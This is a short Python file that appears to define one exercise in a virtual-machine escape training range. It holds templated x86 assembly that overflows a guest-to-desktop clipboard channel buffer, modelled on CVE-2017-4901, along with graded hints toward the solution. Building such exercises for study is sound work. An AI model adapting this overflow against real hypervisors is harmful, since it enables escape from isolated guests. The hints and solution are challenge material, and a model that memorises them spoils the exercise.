"""A channel between guest and desktop that takes more text than it has room for."""

from vmwidgets.model.range.attack import Attack, Placement
from vmwidgets.model.words import said

CONVENIENCE_CHANNEL = Attack(
    id="convenience_channel",
    title=said("a text for the desktop's clipboard that is too long"),
    code="""
    mov rsi, {page_bytes}
    mov rbx, 0x4141414141414141
    mov rcx, 68
fill:
    mov [rsi], rbx
    add rsi, 8
    dec rcx
    jnz fill
    mov rdx, {port_channel}
    mov rax, {page_bytes}
    out dx, eax                 ; port 0: address of the text
    inc rdx
    mov rax, {channel_bytes}
    add rax, {channel_distance}
    add rax, 8
    out dx, eax                 ; port 1: its length
""",
    goal="layer_taken",
    placement=Placement(emulated=True),
    family="V7",
    number=4,
    like="CVE-2017-4901",
    hints=(
        said("What crosses the wall because it is convenient?"),
        said("The trace shows which of two switches stands in your way; the other may still be open."),
        said("Copy a text of channel_bytes + channel_distance + 8 bytes to the desktop."),
    ),
)
"""Copies a text that reaches as far as the address of code behind the buffer."""
